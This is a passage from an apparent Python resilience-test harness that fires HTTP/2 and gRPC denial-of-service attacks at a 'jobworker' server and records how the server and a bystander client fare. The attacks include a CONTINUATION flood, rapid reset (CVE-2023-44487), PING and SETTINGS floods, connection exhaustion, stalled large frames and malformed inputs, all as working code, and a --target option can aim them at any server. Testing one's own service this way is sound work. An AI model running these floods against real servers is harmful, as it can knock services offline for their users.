# =============================================================================================
# The attacks. Each takes the context and returns (what the attacker saw, details).


@dataclass
class Scale:
    continuation_mib: int
    reset_calls: int
    rapid_streams: int
    flood_s: float
    flood_max_mib: int
    no_preface: int
    headers_only: int
    idle: int
    exhaust: int
    hold_s: float
    big_frame_conns: int
    followers: int
    extra_mib: int


SCALES = {
    "small": Scale(4, 2000, 5000, 2.0, 32, 50, 200, 20, 300, 3.0, 2, 200, 1),
    "full": Scale(63, 50_000, 50_000, 10.0, 256, 500, 1000, 100, 1100, 30.0, 8, 2000, 20),
}


@dataclass
class Context:
    target: Target
    scale: Scale
    server: Server
    _job_id: str | None = None

    def grpc_channel(self, user: str) -> Any:
        import grpc

        certs = self.target.certs
        creds = grpc.ssl_channel_credentials(
            (certs / "ca.crt").read_bytes(),
            (certs / user / "client.key").read_bytes(),
            (certs / user / "client.crt").read_bytes(),
        )
        return grpc.secure_channel(self.target.authority, creds)

    def call(self, channel: Any, method: str, request: Any, response_type: Any) -> tuple[str, Any]:
        """A unary call; (status name, response or the status message)."""
        import grpc

        fn = channel.unary_unary(
            SVC + method,
            request_serializer=type(request).SerializeToString,
            response_deserializer=response_type.FromString,
        )
        try:
            return "OK", fn(request, timeout=30)
        except grpc.RpcError as exc:
            return exc.code().name, exc.details()

    def job_with_output(self) -> str:
        """A running job of alice's with 1 MiB of output (for the log followers of row 9)."""
        if self._job_id is None:
            script = "yes abcdefghijklmnopqrstuvwxyz | head -c 1048576; exec sleep 3600"
            with self.grpc_channel("alice") as ch:
                code, resp = self.call(
                    ch,
                    "StartJob",
                    pb.StartJobRequest(command="sh", args=["-c", script]),
                    pb.StartJobResponse,
                )
                if code != "OK":
                    raise RuntimeError(f"StartJob: {code} {resp}")
                job = resp.job_id
                fn = ch.unary_stream(
                    SVC + "GetJobLogs",
                    request_serializer=pb.GetJobLogsRequest.SerializeToString,
                    response_deserializer=pb.GetJobLogsResponse.FromString,
                )
                deadline = time.monotonic() + 30
                while time.monotonic() < deadline:
                    size = sum(
                        len(c.data) for c in fn(pb.GetJobLogsRequest(job_id=job), timeout=30)
                    )
                    if size >= MiB:
                        break
                    time.sleep(0.2)
            self._job_id = job
        return self._job_id


def block_for(
    ctx: Context, path: str, extra: Iterable[tuple[bytes, bytes]] = (), **kw: Any
) -> bytes:
    return header_block(request_headers(path, ctx.target.authority, extra, **kw))


def continuation_flood(ctx: Context, mib: int) -> tuple[str, dict[str, Any]]:
    """One header block of ``mib`` MiB: the request headers, then "x-flood" whose value is
    Huffman-coded '0's (5 bits each, so 5 zero bytes decode to 8 characters)."""
    p = Peer(ctx.target).start_reader().start_h2()
    frame_bytes = p.max_frame
    head = block_for(ctx, HEALTH_CHECK)
    name = b"x-flood"
    prefix_len = len(head) + 1 + len(hpack_int(len(name), 7)) + len(name) + 5
    encoded = (mib * MiB - prefix_len) // 5 * 5
    block = (
        head
        + b"\x00"
        + hpack_int(len(name), 7)
        + name
        + hpack_int(encoded, 7, 0x80)
        + bytes(encoded)
    )
    n_frames = math.ceil(len(block) / frame_bytes)
    t0 = time.monotonic()
    sent_all, stall = True, ""
    try:
        for i in range(n_frames):
            chunk = block[i * frame_bytes : (i + 1) * frame_bytes]
            flags = END_HEADERS if i == n_frames - 1 else 0
            p.send(frame(HEADERS if i == 0 else CONTINUATION, flags, 1, chunk), timeout_s=60)
            if p.closed() or p.goaway:
                sent_all = i == n_frames - 1
                break
        else:
            p.send(frame(DATA, END_STREAM, 1, grpc_message(b"")), timeout_s=60)
    except (Closed, Stalled) as exc:
        sent_all, stall = False, f"{type(exc).__name__} after frame {i + 1}/{n_frames}"
    p.wait_for(lambda: p.closed() or 1 in p.statuses or 1 in p.resets or p.goaway, 120)
    answered = time.monotonic() - t0
    saw = p.saw() + (" (all sent)" if sent_all else f" (sent {i + 1}/{n_frames} frames)")
    p.close()
    return saw, {
        "block_mib": round(len(block) / MiB, 1),
        "frames": n_frames,
        "frame_bytes": frame_bytes,
        "decoded_chars": encoded * 8 // 5,
        "answer_after_s": round(answered, 2),
        "stall": stall,
    }


def attack_1(ctx: Context) -> tuple[str, dict[str, Any]]:
    return continuation_flood(ctx, ctx.scale.continuation_mib)


def attack_2(ctx: Context) -> tuple[str, dict[str, Any]]:
    p = Peer(ctx.target).start_reader().start_h2()
    block = block_for(ctx, HEALTH_CHECK)
    body = grpc_message(b"")
    sent, batch, stopped = 0, 50, ""
    t0 = time.monotonic()
    while sent < ctx.scale.reset_calls and not p.closed() and p.goaway is None:
        n = min(batch, ctx.scale.reset_calls - sent)
        if not p.reserve(len(body) * n, 1 + 2 * sent, 30):  # stream windows are fresh per stream
            stopped = "connection window not returned in 30 s"
            break
        out = []
        for i in range(sent, sent + n):
            sid = 1 + 2 * i
            out.append(
                frame(HEADERS, END_HEADERS, sid, block)
                + frame(DATA, END_STREAM, sid, body)
                + rst(sid)
            )
        try:
            p.send(b"".join(out))
        except (Closed, Stalled) as exc:
            stopped = str(exc)
            break
        sent += n
    took = time.monotonic() - t0
    p.wait_for(lambda: p.closed(), 3)
    saw = p.saw() + f" ({sent} calls sent in {took:.1f} s)" + (f"; {stopped}" if stopped else "")
    p.close()
    return saw, {"calls": sent, "send_s": round(took, 2), "frames": dict(p.frames)}


def attack_3(ctx: Context) -> tuple[str, dict[str, Any]]:
    p = Peer(ctx.target).start_reader().start_h2()
    block = block_for(ctx, HEALTH_CHECK)
    sent, stopped = 0, ""
    t0 = time.monotonic()
    while sent < ctx.scale.rapid_streams and not p.closed() and p.goaway is None:
        n = min(100, ctx.scale.rapid_streams - sent)
        out = b"".join(
            frame(HEADERS, END_HEADERS, s, block) + rst(s)
            for s in range(1 + 2 * sent, 1 + 2 * (sent + n), 2)
        )
        try:
            p.send(out)
        except (Closed, Stalled) as exc:
            stopped = str(exc)
            break
        sent += n
    took = time.monotonic() - t0
    p.wait_for(lambda: p.closed(), 3)
    goaway_at = f", GOAWAY last stream {p.goaway[0]}" if p.goaway else ""
    saw = (
        p.saw()
        + f" ({sent} streams reset in {took:.1f} s{goaway_at})"
        + (f"; {stopped}" if stopped else "")
    )
    p.close()
    return saw, {"streams": sent, "send_s": round(took, 2)}


def control_flood(ctx: Context, unit: bytes) -> tuple[str, dict[str, Any]]:
    """Send ``unit`` frames (64 KiB at a time) without ever reading, for flood_s or up to
    flood_max_mib; then read what the server sent back."""
    p = Peer(ctx.target).start_h2()  # reads only the server's SETTINGS; then never
    chunk = unit * (65536 // len(unit))
    limit, sent, stalled = ctx.scale.flood_max_mib * MiB, 0, ""
    deadline = time.monotonic() + ctx.scale.flood_s
    while sent < limit and time.monotonic() < deadline:
        try:
            p.send(chunk, timeout_s=max(0.1, deadline - time.monotonic()))
        except Stalled:
            stalled = "the server was not reading when the time ran out"
            break
        except Closed:
            stalled = "server closed"
            break
        sent += len(chunk)
    # Now read (and discard) the acknowledgements it queued, to see how it ended.
    t0, seen = time.monotonic(), -1
    while p.received_bytes != seen and not p.goaway and time.monotonic() - t0 < 30:
        seen = p.received_bytes
        p.pump(2.0)  # until 2 s pass without a byte
    ack_frames = p.frames.get("PING", 0) + p.frames.get("SETTINGS", 0)
    saw = (
        p.saw()
        + f" (sent {sent / MiB:.0f} MiB"
        + (f", then {stalled}" if stalled else "")
        + f"; read back {p.received_bytes / MiB:.1f} MiB, {ack_frames} acks)"
    )
    p.close()
    return saw, {
        "sent_mib": round(sent / MiB, 1),
        "frames_sent": sent // len(unit),
        "stalled": stalled,
        "read_back_mib": round(p.received_bytes / MiB, 1),
    }


def attack_4a(ctx: Context) -> tuple[str, dict[str, Any]]:
    return control_flood(ctx, frame(PING, 0, 0, b"12345678"))


def attack_4b(ctx: Context) -> tuple[str, dict[str, Any]]:
    return control_flood(ctx, frame(SETTINGS, 0, 0))


def attack_5a(ctx: Context) -> tuple[str, dict[str, Any]]:
    peers, failures = connect_many(ctx.target, ctx.scale.no_preface, h2=False)
    hold(peers, ctx.scale.hold_s)
    saw = held_summary(peers, ctx.scale.hold_s) + (
        f"; {len(failures)} failed to connect" if failures else ""
    )
    for p in peers:
        p.close()
    return saw, {"connections": len(peers), "failures": Counter(failures)}


def attack_5b(ctx: Context) -> tuple[str, dict[str, Any]]:
    block = block_for(ctx, HEALTH_CHECK)
    per_conn = 100
    peers, failures = connect_many(ctx.target, math.ceil(ctx.scale.headers_only / per_conn))
    streams = 0
    for p in peers:
        n = min(per_conn, ctx.scale.headers_only - streams)
        with contextlib.suppress(Closed, Stalled):
            p.send(b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * i, block) for i in range(n)))
            streams += n
    hold(peers, ctx.scale.hold_s)
    saw = f"{streams} streams: " + summarize(peers) + f"; {held_summary(peers, ctx.scale.hold_s)}"
    for p in peers:
        p.close()
    return saw, {"streams": streams, "failures": Counter(failures)}


def attack_5c(ctx: Context) -> tuple[str, dict[str, Any]]:
    peers, failures = connect_many(ctx.target, ctx.scale.idle)
    for p in peers:
        p.pump(1.0)  # the server's SETTINGS; the parser acknowledges them
    hold(peers, ctx.scale.hold_s)
    saw = summarize(peers) + f"; {held_summary(peers, ctx.scale.hold_s)}"
    for p in peers:
        p.close()
    return saw, {"connections": len(peers), "failures": Counter(failures)}


def attack_5d(ctx: Context) -> tuple[str, dict[str, Any]]:
    t0 = time.monotonic()
    peers, failures = connect_many(ctx.target, ctx.scale.exhaust, timeout_s=3.0)
    took = time.monotonic() - t0
    # Is a fresh connection (another identity) served while we hold them?
    probes = Counter()
    for _ in range(3):
        try:
            q = Peer(ctx.target, "bob", timeout_s=5.0).start_reader().start_h2(timeout_s=5)
            q.send(unary_call(1, block_for(ctx, HEALTH_CHECK), b""))
            q.wait_for(lambda q=q: 1 in q.statuses or q.closed(), 5)
            probes[q.saw()] += 1
            q.close()
        except (OSError, Closed, TimeoutError, Stalled) as exc:
            probes[f"bob could not connect: {type(exc).__name__}"] += 1
    hold(peers, min(ctx.scale.hold_s, 10.0))
    saw = (
        f"opened {len(peers)} in {took:.1f} s, {len(failures)} failed"
        + (f" ({Counter(failures).most_common(1)[0][0]})" if failures else "")
        + "; bob's probes: "
        + ", ".join(f"{k} x{v}" for k, v in probes.items())
        + f"; {summarize(peers)}"
    )
    for p in peers:
        p.close()
    return saw, {"opened": len(peers), "failures": Counter(failures), "probes": dict(probes)}


def attack_6a(ctx: Context) -> tuple[str, dict[str, Any]]:
    p = Peer(ctx.target).start_reader().start_h2()
    block = block_for(ctx, HEALTH_CHECK)
    limit = p.server_settings.get(0x3, 100)
    p.send(b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * i, block) for i in range(limit)))
    extra = 1 + 2 * limit
    p.send(unary_call(extra, block, b""))
    p.wait_for(lambda: p.closed() or p.goaway or extra in p.resets or extra in p.statuses, 5)
    first = (
        f"GOAWAY {h2_error(p.goaway[1])}"
        if p.goaway
        else f"RST {h2_error(p.resets[extra])}"
        if extra in p.resets
        else f"status {grpc_code(p.statuses[extra][0])}"
        if extra in p.statuses
        else "nothing"
    )
    # The first ``limit`` calls: do they still complete?
    with contextlib.suppress(Closed, Stalled):
        for i in range(limit):
            if p.closed() or not p.reserve(5, 1 + 2 * i, 5):
                break
            p.send(frame(DATA, END_STREAM, 1 + 2 * i, grpc_message(b"")))
    ids = range(1, 2 * limit, 2)
    p.wait_for(lambda: p.closed() or all(s in p.statuses or s in p.resets for s in ids), 10)
    ok = sum(1 for s in ids if p.statuses.get(s, ("",))[0] == "0")
    saw = f"stream {limit + 1}: {first}; the {limit} open calls: {ok} answered OK ({p.saw()})"
    p.close()
    return saw, {"max_concurrent_streams": limit, "open_calls_ok": ok}


def attack_6b(ctx: Context) -> tuple[str, dict[str, Any]]:
    p = Peer(ctx.target).start_reader().start_h2()
    block, n = block_for(ctx, HEALTH_CHECK), 150
    p.send(b"".join(unary_call(1 + 2 * i, block, b"") for i in range(n)))
    ids = range(1, 2 * n, 2)
    p.wait_for(lambda: p.closed() or all(s in p.statuses or s in p.resets for s in ids), 15)
    saw = f"{n} calls in one write: " + p.saw()
    p.close()
    return saw, {"calls": n}


def attack_7(ctx: Context) -> tuple[str, dict[str, Any]]:
    results = {}
    for size in (16_000, 16_384, 16_385, 32_768, 65_536, 70_000):
        base = request_headers(HEALTH_CHECK, ctx.target.authority, [(b"x-pad", b"")])
        pad = size - header_list_size(base)
        headers = request_headers(HEALTH_CHECK, ctx.target.authority, [(b"x-pad", b"a" * pad)])
        assert header_list_size(headers) == size
        p = Peer(ctx.target).start_reader().start_h2()
        try:
            p.send(
                headers_frames(1, header_block(headers), 16384, end_stream=False)
                + frame(DATA, END_STREAM, 1, grpc_message(b""))
            )
        except (Closed, Stalled):
            pass
        p.wait_for(lambda p=p: p.closed() or 1 in p.statuses or 1 in p.resets or p.goaway, 10)
        http = p.http_status.get(1)
        results[size] = p.saw() + (f" (:status {http})" if http and http != "200" else "")
        p.close()
    saw = "; ".join(f"{k}: {v}" for k, v in results.items())
    return saw, {"by_size": results}


def attack_8(ctx: Context) -> tuple[str, dict[str, Any]]:
    announced = 2**24 - 1  # the largest length a frame header can say: 16 MiB less a byte
    block = block_for(ctx, HEALTH_CHECK)
    results: list[dict[str, Any]] = []
    peers: list[Peer] = []

    def one() -> None:
        p = Peer(ctx.target).start_reader().start_h2()
        peers.append(p)
        r: dict[str, Any] = {"accepted_mib": 0.0}
        t0 = time.monotonic()
        try:
            p.send(frame(HEADERS, END_HEADERS, 1, block) + frame(DATA, 0, 1, length=announced))
            body, sent = bytes(MiB), 0
            while sent < announced - 1:
                n = min(len(body), announced - 1 - sent)
                p.send(body[:n], timeout_s=ctx.scale.hold_s)
                sent += n
                if p.closed():
                    break
            r["accepted_mib"] = round(sent / MiB, 1)
        except Stalled as exc:
            r["stalled"] = True
            r["accepted_mib"] = round((sent + exc.sent) / MiB, 1)
        except Closed:
            r["accepted_mib"] = round(sent / MiB, 1)
        p.wait_for(p.closed, ctx.scale.hold_s)
        r["held_s"] = round((p.closed_at or time.monotonic()) - t0, 1)
        r["closed"] = p.closed()
        results.append(r)

    threads = [threading.Thread(target=one) for _ in range(ctx.scale.big_frame_conns)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    accepted = max(r["accepted_mib"] for r in results)
    closed = sum(r["closed"] for r in results)
    held = max(r["held_s"] for r in results)
    saw = f"{len(results)} conns: {summarize(peers)}; up to {accepted} MiB of the body taken; " + (
        f"held {held:.0f} s (not closed)"
        if closed < len(results)
        else f"closed after <= {held:.1f} s"
    )
    for p in peers:
        p.close()
    return saw, {"per_conn": results}


def attack_9(ctx: Context) -> tuple[str, dict[str, Any]]:
    job = ctx.job_with_output()
    request = grpc_message(pb.GetJobLogsRequest(job_id=job, follow=True).SerializeToString())
    block = block_for(ctx, SVC + "GetJobLogs")
    per_conn = 100
    n_conns = math.ceil(ctx.scale.followers / per_conn)
    peers, streams = [], 0
    for _ in range(n_conns):
        p = Peer(ctx.target).start_reader().start_h2({SETTINGS_INITIAL_WINDOW_SIZE: 0})
        peers.append(p)
        n = min(per_conn, ctx.scale.followers - streams)
        out = []
        for i in range(n):
            sid = 1 + 2 * i
            if not p.reserve(len(request), sid, 10):
                break
            out.append(
                headers_frames(sid, block, 16384, end_stream=False)
                + frame(DATA, END_STREAM, sid, request)
            )
        with contextlib.suppress(Closed, Stalled):
            p.send(b"".join(out))
            streams += len(out)
    ctx.server.wait_idle()
    rss = proc_rss_kib(ctx.server.pid)[0] if ctx.server.pid else 0
    hold(peers, ctx.scale.hold_s)
    saw = (
        f"{streams} stalled followers: "
        + summarize(peers)
        + f"; {held_summary(peers, ctx.scale.hold_s)}"
    )
    for p in peers:
        p.close()
    return saw, {"streams": streams, "rss_with_them_kib": rss}


def attack_10(ctx: Context) -> tuple[str, dict[str, Any]]:
    after = []
    for _ in range(2):
        continuation_flood(ctx, ctx.scale.continuation_mib)
        ctx.server.wait_idle()
        time.sleep(1.0)  # what is kept is kept; a moment for the connection's task to end
        after.append(round(proc_rss_kib(ctx.server.pid)[0] / 1024, 1) if ctx.server.pid else None)
    return f"RSS after 1st flood closed {after[0]} MiB, after 2nd {after[1]} MiB", {
        "rss_after_mib": after
    }


def attack_11(ctx: Context) -> tuple[str, dict[str, Any]]:
    p = Peer(ctx.target).start_reader().start_h2()
    p.send(frame(HEADERS, END_HEADERS, 1, block_for(ctx, HEALTH_CHECK)))
    per_frame = grpc_message(b"") * (16380 // 5)  # 3,276 empty messages in one DATA frame
    total = ctx.scale.extra_mib * MiB
    sent, stopped = 0, ""
    first = grpc_message(b"")
    t0 = time.monotonic()
    if p.reserve(len(first), 1, 10):
        p.send(frame(DATA, 0, 1, first))
    while sent < total:
        if p.closed() or 1 in p.resets or 1 in p.statuses or p.goaway:
            stopped = "stream ended by the server"
            break
        if not p.reserve(len(per_frame), 1, 10):
            stopped = "window not returned in 10 s"
            break
        try:
            p.send(frame(DATA, 0, 1, per_frame))
        except (Closed, Stalled) as exc:
            stopped = str(exc)
            break
        sent += len(per_frame)
    with contextlib.suppress(Closed, Stalled):
        if not p.closed() and 1 not in p.resets:
            p.send(frame(DATA, END_STREAM, 1))
    p.wait_for(lambda: p.closed() or 1 in p.statuses or 1 in p.resets, 30)
    took = time.monotonic() - t0
    status = p.statuses.get(1)
    saw = (
        p.saw()
        + (f' "{status[1][:50]}"' if status and status[1] else "")
        + f" after {sent / MiB:.1f} MiB = {sent // 5} extra messages in {took:.1f} s"
        + (f" ({stopped})" if stopped else "")
    )
    p.close()
    return saw, {"extra_messages": sent // 5, "sent_mib": round(sent / MiB, 2)}


def attack_12a(ctx: Context) -> tuple[str, dict[str, Any]]:
    p = Peer(ctx.target).start_reader().start_h2()
    p.send(
        frame(HEADERS, END_HEADERS | END_STREAM, 1, b"\xbf")
    )  # index 63: beyond the static table
    p.wait_for(lambda: p.closed() or p.goaway is not None or 1 in p.resets, 10)
    saw = "invalid HPACK index: " + p.saw()
    p.close()
    return saw, {}


def attack_12b(ctx: Context) -> tuple[str, dict[str, Any]]:
    p = Peer(ctx.target).start_reader().start_h2()
    block = block_for(ctx, HEALTH_CHECK, content_type=b"application/grpc+json")
    p.send(unary_call(1, block, b"{}"))
    p.wait_for(lambda: p.closed() or 1 in p.statuses or 1 in p.resets or p.goaway, 10)
    status = p.statuses.get(1)
    saw = (
        "application/grpc+json, body {}: "
        + p.saw()
        + (f' "{status[1][:60]}"' if status and status[1] else "")
        + f" (:status {p.http_status.get(1)}, content-type {p.content_type.get(1)})"
    )
    p.close()
    return saw, {}


def attack_12c(ctx: Context) -> tuple[str, dict[str, Any]]:
    p = Peer(ctx.target).start_reader().start_h2()
    p.send(unary_call(1, block_for(ctx, SVC + "GetJobStatus"), b"\x0a\x02\xff\xfe"))
    p.wait_for(lambda: p.closed() or 1 in p.statuses or 1 in p.resets or p.goaway, 10)
    status = p.statuses.get(1)
    saw = (
        "GetJobStatus(job_id=b'\\xff\\xfe'): "
        + p.saw()
        + (f' "{status[1][:60]}"' if status else "")
    )
    p.close()
    return saw, {}


def attack_J1(ctx: Context) -> tuple[str, dict[str, Any]]:
    started, last = [], ("", "")
    with ctx.grpc_channel("alice") as alice, ctx.grpc_channel("bob") as bob:
        for _ in range(200):
            code, resp = ctx.call(
                alice,
                "StartJob",
                pb.StartJobRequest(command="sleep", args=["600"]),
                pb.StartJobResponse,
            )
            if code != "OK":
                last = (code, resp)
                break
            started.append(resp.job_id)
        code, resp = ctx.call(
            bob, "StartJob", pb.StartJobRequest(command="sleep", args=["600"]), pb.StartJobResponse
        )
        bob_saw = "OK" if code == "OK" else f'{code} "{resp}"'
        for job in started + ([resp.job_id] if code == "OK" else []):
            ctx.call(
                alice if job in started else bob,
                "StopJob",
                pb.StopJobRequest(job_id=job),
                pb.StopJobResponse,
            )
    saw = f'alice started {len(started)}, then {last[0]} "{last[1]}"; bob\'s StartJob: {bob_saw}'
    return saw, {"alice_started": len(started), "bob": bob_saw}


def _limits_probe(ctx: Context, limits: pb.Limits, label: str) -> tuple[str, dict[str, Any]]:
    with ctx.grpc_channel("alice") as ch:
        code, resp = ctx.call(
            ch,
            "StartJob",
            pb.StartJobRequest(command="sleep", args=["60"], limits=limits),
            pb.StartJobResponse,
        )
        if code != "OK":
            return f'{label}: {code} "{resp}"', {}
        time.sleep(0.5)
        _, status = ctx.call(
            ch, "GetJobStatus", pb.GetJobStatusRequest(job_id=resp.job_id), pb.JobStatus
        )
        state = pb.JobState.Name(status.state) if hasattr(status, "state") else str(status)
        error = getattr(status, "error", "")
        ctx.call(ch, "StopJob", pb.StopJobRequest(job_id=resp.job_id), pb.StopJobResponse)
    return f"{label}: OK, job {state}" + (f' "{error[:80]}"' if error else ""), {}


def attack_J2(ctx: Context) -> tuple[str, dict[str, Any]]:
    return _limits_probe(ctx, pb.Limits(cpu=1e300), "Limits(cpu=1e300)")


def attack_J3(ctx: Context) -> tuple[str, dict[str, Any]]:
    return _limits_probe(ctx, pb.Limits(pids=2**32 - 1), "Limits(pids=2**32-1)")


def attack_J4(ctx: Context) -> tuple[str, dict[str, Any]]:
    ok, said = ctx.server.start(["--cpu", "1000"])
    if not ok:
        return f"serve --cpu 1000 on {os.cpu_count()} CPUs: refused: {said}", {}
    ctx.server.stop()
    return f"serve --cpu 1000 on {os.cpu_count()} CPUs: accepted (listening)", {}


@dataclass(frozen=True)
class Attack:
    id: str
    title: str
    run: Callable[[Context], tuple[str, dict[str, Any]]]
    needs_server: bool = True  # False: the attack starts servers itself (J4)


ATTACKS = [
    Attack("1", "HEADERS+CONTINUATION flood, one Huffman value", attack_1),
    Attack("2", "HEADERS+DATA+RST_STREAM in one write, many unary calls", attack_2),
    Attack("3", "rapid reset (CVE-2023-44487)", attack_3),
    Attack("4a", "PING flood, never reading", attack_4a),
    Attack("4b", "empty SETTINGS flood, never reading", attack_4b),
    Attack("5a", "TLS done, no HTTP/2 preface", attack_5a),
    Attack("5b", "streams of HEADERS only", attack_5b),
    Attack("5c", "idle connections", attack_5c),
    Attack("5d", "connection exhaustion (server at 1,024 fds)", attack_5d),
    Attack("6a", "101st stream with 100 calls open", attack_6a),
    Attack("6b", "150 unary calls in one write", attack_6b),
    Attack("7", "header lists 16,000-70,000 bytes (16,384 announced)", attack_7),
    Attack("8", "frame header announcing 16 MiB, last byte held back", attack_8),
    Attack("9", "GetJobLogs(follow) streams with window 0", attack_9),
    Attack("10", "memory after closed CONTINUATION floods", attack_10),
    Attack("11", "unary call flooded with empty extra messages", attack_11),
    Attack("12a", "HPACK error", attack_12a),
    Attack("12b", "content-type application/grpc+json", attack_12b),
    Attack("12c", "invalid UTF-8 in a string field", attack_12c),
    Attack("J1", "one identity's jobs up to the cap, then another's StartJob", attack_J1),
    Attack("J2", "Limits(cpu=1e300)", attack_J2),
    Attack("J3", "Limits(pids=2**32-1)", attack_J3),
    Attack("J4", "serve --cpu 1000", attack_J4, needs_server=False),
]


# =============================================================================================
# The harness


@dataclass
class Result:
    id: str
    title: str
    saw: str = ""
    details: dict[str, Any] = field(default_factory=dict)
    bystander: dict[str, Any] = field(default_factory=dict)
    rss_mib: dict[str, float | None] = field(default_factory=dict)
    cpu_s: float | None = None
    fds_peak: int | None = None
    tracebacks: int | None = None
    log_bytes: int | None = None
    log_sample: list[str] = field(default_factory=list)
    server_alive: bool = True
    duration_s: float = 0.0
    error: str = ""


def run_attack(attack: Attack, ctx: Context) -> Result:
    server = ctx.server
    result = Result(attack.id, attack.title)
    started = time.monotonic()
    if not attack.needs_server:
        try:
            result.saw, result.details = attack.run(ctx)
        except Exception as exc:
            result.error = f"{type(exc).__name__}: {exc}"
        result.duration_s = round(time.monotonic() - started, 1)
        return result
    if server.own:
        ok, said = server.start()
        if not ok:
            result.error = f"server did not start: {said}"
            return result
        assert server.target is not None
        ctx.target = server.target
        ctx._job_id = None
    try:
        if attack.id == "9":
            ctx.job_with_output()  # before the "before" figures: the job is not the attack
        pid = server.pid
        bystander = Bystander(ctx.target)
        try:
            if not bystander.warm():
                result.error = "the bystander got no answer before the attack"
            server.wait_idle()
            rss_before = proc_rss_kib(pid)[0] if pid else None
            cpu_before = proc_cpu_s(pid) if pid else None
            log_start = server.log_size()
            t0 = time.monotonic()
            with Sampler(pid) as sampler:
                try:
                    result.saw, result.details = attack.run(ctx)
                except Exception as exc:  # the attack's own failure: report it, go on
                    result.error = f"{type(exc).__name__}: {exc}"
                t1 = time.monotonic()
                server.wait_idle()
            result.bystander = bystander.figures(t0, t1)
        finally:
            bystander.stop()
        result.server_alive = server.alive()
        if pid and result.server_alive:
            rss_after, hwm = proc_rss_kib(pid)
            result.rss_mib = {
                "before": round(rss_before / 1024, 1),
                "peak": round(max(sampler.peak_rss_kib, rss_after) / 1024, 1),
                "after": round(rss_after / 1024, 1),
                "hwm": round(hwm / 1024, 1),
            }
            result.cpu_s = round(proc_cpu_s(pid) - cpu_before, 2)
            result.fds_peak = sampler.peak_fds
        if server.log:
            text = server.log_slice(log_start)
            result.log_bytes = len(text)
            result.tracebacks = text.count(b"Traceback")
            lines = text.decode(errors="replace").splitlines()
            emfile = sum("Too many open files" in line for line in lines)
            if emfile:
                result.details["emfile_log_lines"] = emfile
            seen: list[str] = []
            for line in lines:
                key = re.sub(r"\d+", "N", re.sub(r"^\S+ ", "", line))[:120]
                if ("WARNING" in line or "ERROR" in line) and key not in seen:
                    seen.append(key)
            result.log_sample = seen[:3]
    finally:
        if server.own:
            code = server.stop()
            if code not in (0, None):
                result.details["server_exit"] = code
    result.duration_s = round(time.monotonic() - started, 1)
    return result


def fmt_by(b: dict[str, Any]) -> str:
    if not b or not b.get("calls"):
        return "no calls"
    errors = b.get("errors") or {}
    text = (
        f"{b['p50_ms']}/{b['p99_ms']}/{b['max_ms']}"
        if b["p50_ms"] is not None
        else f"-/-/{b['max_ms']}"
    )
    if errors:
        text += " (" + ", ".join(f"{k} x{v}" for k, v in errors.items()) + ")"
    return text


def markdown(results: list[Result], header: str) -> str:
    out = [
        header,
        "",
        "| # | attack | attacker saw | bystander ms p50/p99/max (one conn) "
        "| fresh conn ms p50/p99/max | RSS MiB before/peak/after | server CPU s | fds peak "
        "| tracebacks | log bytes |",
        "|---|---|---|---|---|---|---|---|---|---|",
    ]
    for r in results:
        saw = (
            r.saw
            + (f" **[{r.error}]**" if r.error else "")
            + ("" if r.server_alive else " **[server died]**")
        )
        rss = r.rss_mib
        rss_text = f"{rss['before']}/{rss['peak']}/{rss['after']}" if rss else "-"

        def cell(v: Any) -> str:
            return "-" if v is None else str(v)

        by = r.bystander
        cells = [r.id, r.title, saw.replace("|", "/"), fmt_by(by.get("persistent", {})),
                 fmt_by(by.get("fresh", {})), rss_text, cell(r.cpu_s), cell(r.fds_peak),
                 cell(r.tracebacks), cell(r.log_bytes)]  # fmt: skip
        out.append("| " + " | ".join(cells) + " |")
    notes = [f"- {r.id}: " + " · ".join(r.log_sample) for r in results if r.log_sample]
    if notes:
        out += ["", "Server log, first distinct warning/error lines per attack:", "", *notes]
    return "\n".join(out) + "\n"


def jobworker_cgroups() -> list[str]:
    found = []
    for controller in Path("/sys/fs/cgroup").iterdir():
        with contextlib.suppress(OSError):
            found += [
                f"{controller.name}/{d.name}" for d in controller.iterdir() if "jobworker" in d.name
            ]
    return sorted(found)


def select(only: str | None) -> list[Attack]:
    if not only:
        return ATTACKS
    wanted = [w.strip() for w in only.split(",") if w.strip()]
    chosen = [
        a
        for a in ATTACKS
        if any(
            a.id == w or a.id.rstrip("abcd") == w or (w == "J" and a.id[0] == "J") for w in wanted
        )
    ]
    if not chosen:
        raise SystemExit(f"--only {only}: no such attack (ids: {', '.join(a.id for a in ATTACKS)})")
    return chosen


def main(argv: list[str] | None = None) -> int:
    argv = sys.argv[1:] if argv is None else argv
    if argv[:1] == ["--bystander"]:
        bystander_main(argv[1], int(argv[2]), Path(argv[3]))
        return 0
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--scale", choices=sorted(SCALES), default="small")
    parser.add_argument("--only", help="attack ids, comma-separated (5 = 5a-5d, J = the job rows)")
    parser.add_argument(
        "--server-cmd", help="the command that runs the jobworker CLI (shell words)"
    )
    parser.add_argument("--server-pythonpath", help="run the server from this checkout")
    parser.add_argument(
        "--server-nofile", type=int, default=1024, help="the server's descriptor limit (0: inherit)"
    )
    parser.add_argument("--target", help="HOST:PORT of a running server (with --certs)")
    parser.add_argument("--certs", type=Path, help="ca.crt and alice/, bob/ client folders")
    parser.add_argument("--server-pid", type=int)
    parser.add_argument("--server-log", type=Path)
    parser.add_argument("--json", type=Path, help="write the results as JSON here")
    parser.add_argument("--markdown", type=Path, help="write the table here too")
    args = parser.parse_args(argv)
    attacks = select(args.only)
    scale = SCALES[args.scale]
    cgroups_before = jobworker_cgroups()

    env = dict(os.environ)
    if args.server_pythonpath:
        env["PYTHONPATH"] = str(Path(args.server_pythonpath).resolve())
    cmd = (
        shlex.split(args.server_cmd)
        if args.server_cmd
        else [sys.executable, "-m", "jobworker.cli.serve"]
    )

    workdir: Path | None = None
    try:
        if args.target:
            if not args.certs:
                parser.error("--target needs --certs")
            host, _, port = args.target.rpartition(":")
            target = Target(host, int(port), args.certs.resolve())
            server = Server(
                cmd=None,
                env=env,
                workdir=None,
                target=target,
                pid=args.server_pid,
                log=args.server_log,
            )
            attacks = [a for a in attacks if a.needs_server]
            where = f"target {args.target}"
        else:
            workdir = Path(tempfile.mkdtemp(prefix="jobworker-attack-"))
            where_code = subprocess.run(
                [cmd[0], "-c", "import jobworker; print(jobworker.__file__)"]
                if not args.server_cmd
                else ["true"],
                env=env,
                capture_output=True,
                text=True,
                check=False,
                cwd=workdir,
            ).stdout.strip()
            made = subprocess.run(
                [*cmd, "certs", "init", str(workdir / "certs"), "--user", "alice", "--user", "bob"],
